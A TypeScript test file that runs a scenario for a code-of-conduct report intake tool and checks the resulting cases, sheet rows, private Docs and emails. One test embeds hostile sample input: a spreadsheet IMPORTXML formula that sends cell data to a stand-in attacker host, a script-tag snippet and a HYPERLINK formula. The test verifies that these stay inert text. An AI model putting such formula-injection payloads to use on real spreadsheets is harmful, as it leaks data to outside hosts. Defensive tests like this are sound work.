// The intake scenario (examples/intake.json) played by the scenario runner: the expected cases, rows, Docs and mails appear in the state it writes to out/state.json.
import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Workspace } from '../../workbench';
import { playScenario } from '../../scripts/scenario/player';
import { parseScenarioText } from '../../scripts/scenario/schema';
import { buildState, type ScenarioState } from '../../scripts/scenario/state';
import { findViolations, newKnowledge, type Knowledge } from './invariants';

const ROOT = join(__dirname, '..', '..');
const FILE = join(ROOT, 'examples', 'intake.json');

let state: ScenarioState;
const violations: string[] = [];

beforeAll(() => {
  const scenario = parseScenarioText(readFileSync(FILE, 'utf8'), 'intake.json');
  const bundle = mkdtempSync(join(tmpdir(), 'intake-scenario-'));
  cpSync(join(ROOT, 'build'), bundle, { recursive: true });
  let k: Knowledge | null = null;
  try {
    const run = playScenario(scenario, {
      createWorkspace: (options) => Workspace.create(options),
      buildDir: bundle,
      onStep: (_record, ws) => {
        if (!k) {
          k = newKnowledge(ws as Workspace);
          k.people.push(
            {
              reporter: { name: 'Rita Alvarez', email: 'rita@example.net' },
              reported: [{ name: 'Sam Doe' }],
              witnesses: [{ name: 'Wendy Okonkwo' }],
            },
            { reported: [{ name: 'Pat Quinn' }] },
            { reporter: { email: 'one@example.net' }, reported: [{ name: 'Lee Park' }] },
            { reporter: { email: 'kim@example.net' }, reported: [{ name: 'Jo Rivers' }] },
          );
          k.moderatorEmails.add('mods@example.org');
        }
        for (const v of findViolations(ws as Workspace, k)) if (!violations.includes(v)) violations.push(v);
      },
    });
    state = buildState(run);
  } finally {
    rmSync(bundle, { recursive: true, force: true });
  }
}, 300_000);

const subjects = (to: string) => state.mail.filter((m) => m.to.includes(to)).map((m) => m.subject);

test('the invariants held after every step', () => {
  expect(violations).toEqual([]);
  expect(state.errors).toEqual([]);
});

test('four non-blank responses became four cases, each with one status row and one private Doc', () => {
  expect(state.cases).toHaveLength(4);
  const codeNames = state.cases.map((c) => c.codeName);
  expect(new Set(codeNames).size).toBe(4);
  const [header, ...rows] = state.sheets.Cases;
  expect(header).toEqual([
    'Safety risk?',
    'Risk of repeating?',
    'Status',
    'Code Name',
    'Date & Time',
    'Actions needed',
    'Resolution',
  ]);
  expect(rows.map((r) => r[3])).toEqual(codeNames);
  for (const row of rows) expect(row.slice(0, 3)).toEqual(['Unknown', 'Unknown', 'New']);
  // The minute each case was received (the registry's instant, the sheet's zone is UTC here), which is when its step
  // began plus what the executions before it took on the simulated clock (a minute or so over the run).
  const [registryHeader, ...registryRows] = state.registry.Cases;
  const receivedAt = new Map(
    registryRows.map((r) => [r[registryHeader.indexOf('Code Name')], String(r[registryHeader.indexOf('Received At')])]),
  );
  expect(rows.map((r) => r[4])).toEqual(rows.map((r) => receivedAt.get(r[3])!.slice(0, 16).replace('T', ' ')));
  const planned = ['2026-03-02T08:00Z', '2026-03-02T08:20Z', '2026-03-02T08:25Z', '2026-03-02T09:25Z'];
  rows.forEach((r, i) => {
    const late = (Date.parse(`${String(r[4]).replace(' ', 'T')}Z`) - Date.parse(planned[i])) / 60_000;
    expect([r[3], late >= 0 && late <= 2]).toEqual([r[3], true]);
  });
  for (const c of state.cases) {
    const doc = state.docs.find((d) => d.id === c.docId)!;
    expect(doc.title).toBe(c.codeName);
    expect(doc.access).toBe('PRIVATE');
    expect(doc.inSharedFolder).toBe(false);
    expect(doc.editors.filter((e) => e !== 'conduct@example.org')).toEqual([]);
  }
  expect(state.docs).toHaveLength(4);
});

test('the hostile report is kept whole in its Doc and nothing became a formula', () => {
  const hostile = state.docs.find((d) => d.id === state.cases[2].docId)!;
  expect(hostile.text).toContain('=IMPORTXML("https://evil.example/?q="&A2,"//a")');
  expect(hostile.text).toContain('<script>alert(1)</script> =HYPERLINK("https://evil.example","x") @SUM(1,2)');
  expect(JSON.stringify(state.sheets)).not.toMatch(/IMPORTXML|HYPERLINK|SUM\(/);
});

test('mail: one acknowledgment per usable address, screening for everyone, an urgent alert for danger', () => {
  expect(subjects('rita@example.net')).toEqual(['We received your report']);
  expect(subjects('kim@example.net')).toEqual(['We received your report']);
  expect(state.mail.filter((m) => m.to.some((t) => /one@|two@/.test(t)))).toEqual([]);
  for (const member of ['ana@example.org', 'bo@example.org', 'cy@example.org']) {
    const got = subjects(member);
    expect(got.filter((s) => /conflict of interest/.test(s))).toHaveLength(4);
    expect(got.filter((s) => s.startsWith('Urgent:'))).toEqual([
      `Urgent: new report ${state.cases[3].codeName} may involve immediate danger`,
    ]);
  }
  for (const mail of state.mail) expect(mail.htmlBody).not.toMatch(/<(script|img)\b/i);
  expect(state.mail.filter((m) => m.to.includes('mods@example.org'))).toEqual([]);
});
